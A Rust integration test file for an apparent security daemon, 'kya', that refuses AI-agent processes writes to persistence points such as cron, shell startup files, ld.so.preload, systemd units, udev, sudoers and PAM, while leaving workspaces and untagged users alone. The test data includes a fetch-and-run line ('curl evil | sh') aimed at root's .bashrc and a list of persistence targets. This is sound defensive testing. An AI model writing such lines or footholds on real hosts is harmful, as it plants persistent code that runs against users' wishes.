//! Execution footholds: an agent, root or not, may read but not change the files a human's
//! shell, cron, systemd, the dynamic loader, udev, sudo or PAM run or obey later (create,
//! write, truncate, rename, link, delete, chmod), each refusal an event of kind `foothold`;
//! untagged processes are untouched, and what an agent must keep writing keeps working.
use std::{fs, os::unix::fs::PermissionsExt as _, path::Path, process::Command, time::Duration};

use kya_tests::{
    CODER_UID, Checks, Daemon, Fixture, events, eventually, kya, op, op_as_uid, op_exe,
};

const CODER_HOME: &str = "/home/coder";
const ALICE_UID: u32 = 1000;

/// Plants the footholds the tests change, as a host would have them (untagged, as root).
fn plant() {
    for dir in [
        "/etc/cron.d",
        "/etc/cron.daily",
        "/var/spool/cron/crontabs",
        "/var/spool/cron/atjobs",
        "/etc/profile.d",
        "/etc/ld.so.conf.d",
        "/etc/systemd/system",
        "/etc/systemd/user",
        "/lib/systemd/system-generators",
        "/etc/xdg/autostart",
        "/etc/udev/rules.d",
        "/etc/sudoers.d",
        "/etc/pam.d",
        "/etc/security",
        "/root/.config/autostart",
    ] {
        fs::create_dir_all(dir).unwrap();
    }
    for (file, text) in [
        ("/etc/crontab", "# m h dom mon dow user command\n"),
        (
            "/etc/cron.d/backup",
            "0 3 * * * root /usr/local/bin/backup\n",
        ),
        ("/etc/profile", "export PATH=/usr/bin:/bin\n"),
        ("/etc/profile.d/lang.sh", "export LANG=C.UTF-8\n"),
        ("/etc/bash.bashrc", "PS1='$ '\n"),
        ("/etc/environment", "LANG=C.UTF-8\n"),
        ("/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n"),
        ("/etc/sudoers", "root ALL=(ALL) ALL\n"),
        ("/etc/pam.d/common-auth", "auth required pam_unix.so\n"),
        ("/etc/security/pam_env.conf", "\n"),
        ("/etc/udev/rules.d/10-local.rules", "\n"),
        ("/root/.bashrc", "alias ll='ls -l'\n"),
        ("/root/.profile", ". ~/.bashrc\n"),
        ("/home/alice/.bashrc", "alias ll='ls -l'\n"),
    ] {
        fs::write(file, text).unwrap();
    }
    // Without a test's leftovers: files a refused agent must not have made, and the ones an
    // untagged process made or moved last time.
    for leftover in [
        "/etc/cron.d/agent",
        "/etc/cron.daily/agent",
        "/var/spool/cron/crontabs/root",
        "/var/spool/cron/atjobs/a00001",
        "/etc/profile.d/agent.sh",
        "/etc/bash.bashrc.moved",
        "/etc/ld.so.conf.d/agent.conf",
        "/etc/systemd/system/agent.service",
        "/etc/systemd/user/agent.service",
        "/lib/systemd/system-generators/agent",
        "/etc/xdg/autostart/agent.desktop",
        "/etc/udev/rules.d/99-agent.rules",
        "/etc/sudoers.d/agent",
        "/etc/security/agent.conf",
        "/root/.config/autostart/agent.desktop",
        "/etc/kya-test-pam-link",
    ] {
        let _ = fs::remove_file(leftover);
    }
    plant_coder_home();
    chown_tree("/home/alice/.bashrc", ALICE_UID);
}

/// coder's home: its startup files, owned by it, as a user's are.
fn plant_coder_home() {
    for dir in [
        ".config/systemd/user",
        ".config/autostart",
        ".cache",
        "work",
    ] {
        fs::create_dir_all(Path::new(CODER_HOME).join(dir)).unwrap();
    }
    for file in [".bashrc", ".profile", ".zshrc"] {
        fs::write(Path::new(CODER_HOME).join(file), "# startup\n").unwrap();
    }
    for leftover in [
        ".bash_login",
        ".bashrc.new",
        ".profile.moved",
        ".config/systemd/user/agent.service",
        ".config/autostart/agent.desktop",
    ] {
        let _ = fs::remove_file(Path::new(CODER_HOME).join(leftover));
    }
    chown_tree(CODER_HOME, CODER_UID);
}

fn chown_tree(path: &str, uid: u32) {
    let status = Command::new("chown")
        .args(["-R", &format!("{uid}:{uid}"), path])
        .status()
        .expect("chown");
    assert!(status.success(), "chown -R {path}");
}

/// Whether this test's events hold a foothold refusal whose path contains `path_part`.
fn foothold_events(path_part: &str) -> bool {
    events().iter().any(|event| {
        event["kind"] == "foothold"
            && event["path"]
                .as_str()
                .is_some_and(|path| path.contains(path_part))
    })
}

/// `kya_denied_total{agent=AGENT,kind="foothold"}` from the daemon's metrics endpoint.
fn denied_footholds(agent: &str) -> Option<f64> {
    use std::io::{Read as _, Write as _};
    let mut stream = std::net::TcpStream::connect("127.0.0.1:9464").ok()?;
    stream
        .write_all(b"GET /metrics HTTP/1.1\r\nHost: kya\r\n\r\n")
        .ok()?;
    let mut response = String::new();
    stream.read_to_string(&mut response).ok()?;
    let series = format!("kya_denied_total{{agent=\"{agent}\",kind=\"foothold\"}} ");
    response
        .lines()
        .find_map(|line| line.strip_prefix(&series)?.parse().ok())
}

/// The changes every agent is refused as root (through ops, matched by its executable).
const ROOT_CHANGES: &[(&str, &[&str])] = &[
    (
        "cron: open /etc/crontab for writing",
        &["open-write", "/etc/crontab"],
    ),
    (
        "cron: a file in /etc/cron.d",
        &["create", "/etc/cron.d/agent"],
    ),
    (
        "cron: a script in /etc/cron.daily",
        &["create", "/etc/cron.daily/agent"],
    ),
    (
        "cron: root's crontab in the spool",
        &["create", "/var/spool/cron/crontabs/root"],
    ),
    (
        "at: a job in the spool",
        &["create", "/var/spool/cron/atjobs/a00001"],
    ),
    (
        "shell: write root's ~/.bashrc",
        &["write", "/root/.bashrc", "curl evil | sh\n"],
    ),
    (
        "shell: truncate /etc/profile",
        &["truncate", "/etc/profile"],
    ),
    (
        "shell: a file in /etc/profile.d",
        &["create", "/etc/profile.d/agent.sh"],
    ),
    (
        "shell: rename /etc/bash.bashrc",
        &["rename", "/etc/bash.bashrc", "/etc/bash.bashrc.moved"],
    ),
    (
        "shell: delete /etc/environment",
        &["unlink", "/etc/environment"],
    ),
    (
        "loader: create /etc/ld.so.preload",
        &["create", "/etc/ld.so.preload"],
    ),
    (
        "loader: write /etc/ld.so.conf",
        &["open-write", "/etc/ld.so.conf"],
    ),
    (
        "loader: a file in /etc/ld.so.conf.d",
        &["create", "/etc/ld.so.conf.d/agent.conf"],
    ),
    (
        "systemd: a system unit",
        &["create", "/etc/systemd/system/agent.service"],
    ),
    (
        "systemd: a user unit for everyone",
        &["create", "/etc/systemd/user/agent.service"],
    ),
    (
        "systemd: a generator",
        &["create", "/lib/systemd/system-generators/agent"],
    ),
    (
        "autostart: /etc/xdg/autostart",
        &["create", "/etc/xdg/autostart/agent.desktop"],
    ),
    (
        "autostart: root's ~/.config/autostart",
        &["create", "/root/.config/autostart/agent.desktop"],
    ),
    (
        "udev: a rule",
        &["create", "/etc/udev/rules.d/99-agent.rules"],
    ),
    (
        "udev: chmod a rule",
        &["chmod", "/etc/udev/rules.d/10-local.rules", "666"],
    ),
    ("sudo: write /etc/sudoers", &["open-write", "/etc/sudoers"]),
    (
        "sudo: a file in /etc/sudoers.d",
        &["create", "/etc/sudoers.d/agent"],
    ),
    (
        "PAM: write a module stack",
        &["open-write", "/etc/pam.d/common-auth"],
    ),
    (
        "PAM: link a module stack elsewhere",
        &["link", "/etc/pam.d/common-auth", "/etc/kya-test-pam-link"],
    ),
    (
        "PAM: a settings file in /etc/security",
        &["symlink", "/tmp", "/etc/security/agent.conf"],
    ),
];

/// Every file an agent must still read.
const READS: &[&str] = &[
    "/etc/crontab",
    "/etc/cron.d/backup",
    "/etc/profile",
    "/etc/profile.d/lang.sh",
    "/etc/bash.bashrc",
    "/etc/environment",
    "/etc/ld.so.conf",
    "/etc/sudoers",
    "/etc/pam.d/common-auth",
    "/etc/security/pam_env.conf",
    "/etc/udev/rules.d/10-local.rules",
    "/root/.bashrc",
    "/root/.profile",
];

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one daemon for every category, tagged and untagged"
)]
fn every_category_is_refused_to_agents_root_or_not_and_allowed_untagged() {
    let fixture = Fixture::new();
    fs::create_dir_all("/tmp/kya-test").unwrap();
    plant();
    let _daemon = Daemon::start(&fixture.config);
    let mut checks = Checks::default();
    let ops = |args: &[&str]| op_exe(&fixture.ops_exe, args);
    let coder = |args: &[&str]| op_as_uid(CODER_UID, CODER_HOME, args);
    let counted_before = denied_footholds("ops").unwrap_or_default();

    for (what, args) in ROOT_CHANGES {
        checks.denied(&ops(args), &format!("root agent, {what}"));
    }
    for file in READS {
        checks.allowed(&ops(&["read", file]), &format!("root agent reading {file}"));
    }
    checks.that(
        !Path::new("/etc/ld.so.preload").exists(),
        "no /etc/ld.so.preload was made",
    );

    // A user's agent, in its own home.
    let home = |name: &str| format!("{CODER_HOME}/{name}");
    checks.denied(
        &coder(&["open-write", &home(".bashrc")]),
        "coder writing ~/.bashrc",
    );
    checks.denied(
        &coder(&["create", &home(".bash_login")]),
        "coder creating ~/.bash_login",
    );
    checks.denied(
        &coder(&["truncate", &home(".profile")]),
        "coder truncating ~/.profile",
    );
    checks.denied(
        &coder(&["rename", &home(".profile"), &home(".profile.moved")]),
        "coder renaming ~/.profile",
    );
    checks.denied(
        &coder(&["unlink", &home(".zshrc")]),
        "coder deleting ~/.zshrc",
    );
    checks.denied(
        &coder(&["link", &home(".bashrc"), &home("work/bashrc")]),
        "coder linking ~/.bashrc",
    );
    checks.denied(
        &coder(&["create", &home(".config/systemd/user/agent.service")]),
        "coder creating a user unit",
    );
    checks.denied(
        &coder(&["create", &home(".config/autostart/agent.desktop")]),
        "coder creating an autostart entry",
    );
    // An editor's way: a new file renamed over the old one.
    checks.allowed(
        &coder(&["create", &home(".bashrc.new")]),
        "coder creating ~/.bashrc.new",
    );
    checks.denied(
        &coder(&["rename", &home(".bashrc.new"), &home(".bashrc")]),
        "coder renaming a file over ~/.bashrc",
    );
    for file in [".bashrc", ".profile", ".zshrc"] {
        checks.allowed(
            &coder(&["read", &home(file)]),
            &format!("coder reading ~/{file}"),
        );
    }
    checks.that(
        fs::read_to_string(home(".bashrc")).unwrap() == "# startup\n",
        "~/.bashrc is unchanged",
    );

    // Each refusal is an event of kind foothold, and counted.
    for part in [
        "/etc/cron.d",
        "/etc/sudoers",
        "/root/.bashrc",
        "/home/coder/.bashrc",
        "/etc/ld.so.conf.d",
    ] {
        checks.that(
            eventually(Duration::from_secs(10), || foothold_events(part)),
            &format!("a foothold event naming {part}"),
        );
    }

    // Counted in the kernel: kya's own files among them (/etc/ld.so.preload is one the
    // daemon trusts) count under their own kind.
    let mut counted = 0.0;
    checks.that(
        eventually(Duration::from_secs(10), || {
            counted = denied_footholds("ops").unwrap_or_default() - counted_before;
            counted >= 20.0
        }),
        &format!("kya_denied_total for ops's footholds grew by {counted}, not 20 or more"),
    );

    // Untagged: root and a user do all of it.
    for (what, args) in ROOT_CHANGES {
        if args[0] == "create" && args[1] == "/etc/ld.so.preload" {
            continue; // an empty preload list would be harmless, but leave the loader alone
        }
        checks.allowed(&op(None, args), &format!("untagged root, {what}"));
    }
    checks.allowed(
        &op_as_uid(
            ALICE_UID,
            "/home/alice",
            &["write", "/home/alice/.bashrc", "# mine\n"],
        ),
        "alice (untagged) writing her ~/.bashrc",
    );
    checks.finish();
}

#[test]
fn agents_keep_writing_their_workspace_temp_cache_and_build_outputs_and_commit() {
    let fixture = Fixture::new();
    plant();
    let _daemon = Daemon::start(&fixture.config);
    let mut checks = Checks::default();
    let coder = |args: &[&str]| op_as_uid(CODER_UID, CODER_HOME, args);
    let _ = fs::remove_dir_all(format!("{CODER_HOME}/work/repo"));
    for (what, args) in [
        (
            "a file in its workspace",
            vec!["create", "/home/coder/work/main.rs"],
        ),
        (
            "writing it",
            vec!["write", "/home/coder/work/main.rs", "fn main() {}\n"],
        ),
        (
            "renaming it",
            vec![
                "rename",
                "/home/coder/work/main.rs",
                "/home/coder/work/lib.rs",
            ],
        ),
        ("deleting it", vec!["unlink", "/home/coder/work/lib.rs"]),
        (
            "a build output directory",
            vec!["mkdir", "/home/coder/work/target"],
        ),
        (
            "a build output",
            vec!["create", "/home/coder/work/target/app"],
        ),
        (
            "a file in ~/.cache",
            vec!["create", "/home/coder/.cache/tool.db"],
        ),
        (
            "a file in ~/.config that is no foothold",
            vec!["mkdir", "/home/coder/.config/tool"],
        ),
        ("a file in /tmp", vec!["create", "/tmp/coder-scratch"]),
    ] {
        checks.allowed(&coder(&args), &format!("coder: {what}"));
    }
    let _ = fs::remove_file("/tmp/coder-scratch");
    let _ = fs::remove_file("/home/coder/.cache/tool.db");
    let _ = fs::remove_dir_all("/home/coder/work/target");
    let _ = fs::remove_dir_all("/home/coder/.config/tool");
    let ops = |args: &[&str]| op_exe(&fixture.ops_exe, args);
    checks.allowed(
        &ops(&["create", "/tmp/kya-test/ops-scratch"]),
        "root agent: a file in /tmp",
    );
    let _ = fs::remove_file("/tmp/kya-test/ops-scratch");

    // git, tagged by coder's uid: init, add and commit in a repository of its own.
    fs::create_dir_all(format!("{CODER_HOME}/work/repo")).unwrap();
    fs::write(format!("{CODER_HOME}/work/repo/README"), "hello\n").unwrap();
    chown_tree(&format!("{CODER_HOME}/work"), CODER_UID);
    let git = |args: &[&str]| {
        use std::os::unix::process::CommandExt as _;
        Command::new("/usr/bin/git")
            .args([
                "-c",
                "user.name=coder",
                "-c",
                "user.email=coder@example.invalid",
            ])
            .args(args)
            .current_dir(format!("{CODER_HOME}/work/repo"))
            .env("HOME", CODER_HOME)
            .uid(CODER_UID)
            .gid(CODER_UID)
            .output()
            .expect("run git")
    };
    for args in [
        &["init", "-q"][..],
        &["add", "README"],
        &["commit", "-q", "-m", "first"],
    ] {
        let output = git(args);
        checks.that(
            output.status.success(),
            &format!(
                "coder: git {args:?}: {}",
                String::from_utf8_lossy(&output.stderr)
            ),
        );
    }
    let log = git(&["log", "--oneline"]);
    checks.that(
        String::from_utf8_lossy(&log.stdout).contains("first"),
        "coder's commit is in the log",
    );
    // And git really ran tagged: its config in ~ is a foothold.
    let output = git(&["config", "--global", "core.pager", "evil"]);
    checks.that(
        !output.status.success(),
        "coder: git config --global is refused",
    );
    checks.finish();
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one daemon for the grant and both lists"
)]
fn a_once_grant_lets_one_write_of_a_startup_file_through_and_per_agent_lists_apply() {
    let fixture = Fixture::new();
    plant();
    fs::create_dir_all("/tmp/kya-test/tool/hooks").unwrap();
    fs::write("/tmp/kya-test/tool/tool.conf", "x\n").unwrap();
    fs::write("/tmp/kya-test/tool/hooks/pre", "x\n").unwrap();
    fs::set_permissions("/tmp/kya-test/tool", fs::Permissions::from_mode(0o777)).unwrap();
    let (coder_table, ops_table) = fixture
        .config
        .split_once("[[agents]]\nname = \"ops\"")
        .expect("fixture has an ops agent");
    let config = format!(
        "{coder_table}[agents.files]\nprotect_writes = [\"/tmp/kya-test/tool/tool.conf\", \
         \"/tmp/kya-test/tool/hooks/\"]\nallow_writes = [\"~/.zshrc\", \"/etc/cron.d/\"]\n\n\
         [[agents]]\nname = \"ops\"{ops_table}"
    );
    let _daemon = Daemon::start(&config);
    let mut checks = Checks::default();
    let coder = |args: &[&str]| op_exe(&fixture.coder_exe, args);
    let ops = |args: &[&str]| op_exe(&fixture.ops_exe, args);

    // coder's protect_writes: readable, not changeable, for coder only.
    checks.allowed(
        &coder(&["read", "/tmp/kya-test/tool/tool.conf"]),
        "coder reading tool.conf",
    );
    checks.denied(
        &coder(&["open-write", "/tmp/kya-test/tool/tool.conf"]),
        "coder writing tool.conf",
    );
    checks.denied(
        &coder(&["create", "/tmp/kya-test/tool/hooks/post"]),
        "coder creating a hook",
    );
    checks.denied(
        &coder(&["unlink", "/tmp/kya-test/tool/hooks/pre"]),
        "coder deleting a hook",
    );
    checks.allowed(
        &ops(&["open-write", "/tmp/kya-test/tool/tool.conf"]),
        "ops writing tool.conf",
    );
    // coder's allow_writes: /etc/cron.d and its ~/.zshrc, for coder only.
    checks.allowed(
        &coder(&["create", "/etc/cron.d/agent"]),
        "coder creating in /etc/cron.d",
    );
    checks.allowed(
        &coder(&["unlink", "/etc/cron.d/agent"]),
        "coder deleting it again",
    );
    checks.allowed(
        &coder(&["open-write", "/home/coder/.zshrc"]),
        "coder writing ~/.zshrc",
    );
    checks.denied(
        &ops(&["create", "/etc/cron.d/agent"]),
        "ops creating in /etc/cron.d",
    );
    checks.denied(
        &coder(&["open-write", "/home/coder/.bashrc"]),
        "coder writing ~/.bashrc",
    );
    checks.that(
        eventually(Duration::from_secs(10), || foothold_events("tool.conf")),
        "a foothold event for protect_writes",
    );

    // A human's single-use grant: one write-open of ~/.profile, then refused again.
    let profile = "/home/coder/.profile";
    let out = kya(&[
        "grant",
        "--agent",
        "coder",
        "--file",
        profile,
        "--once",
        "--reason",
        "toolchain",
    ]);
    checks.that(
        out.status.success(),
        &format!("kya grant: {}", String::from_utf8_lossy(&out.stderr)),
    );
    checks.allowed(
        &coder(&["write", profile, "export PATH=$HOME/.tool/bin:$PATH\n"]),
        "the granted write",
    );
    checks.denied(&coder(&["write", profile, "again\n"]), "a second write");
    checks.that(
        fs::read_to_string(profile)
            .unwrap()
            .starts_with("export PATH=$HOME/.tool/bin"),
        "the granted write reached ~/.profile",
    );
    // A file that is no credential nor foothold needs no grant.
    let out = kya(&[
        "grant",
        "--agent",
        "coder",
        "--file",
        "/tmp/kya-test/tool/hooks/pre",
        "--once",
    ]);
    checks.that(
        out.status.success(),
        "a protect_writes file can be granted too",
    );
    let out = kya(&[
        "grant",
        "--agent",
        "coder",
        "--file",
        "/etc/hostname-none",
        "--once",
    ]);
    checks.that(!out.status.success(), "a missing file cannot be granted");
    checks.finish();
}
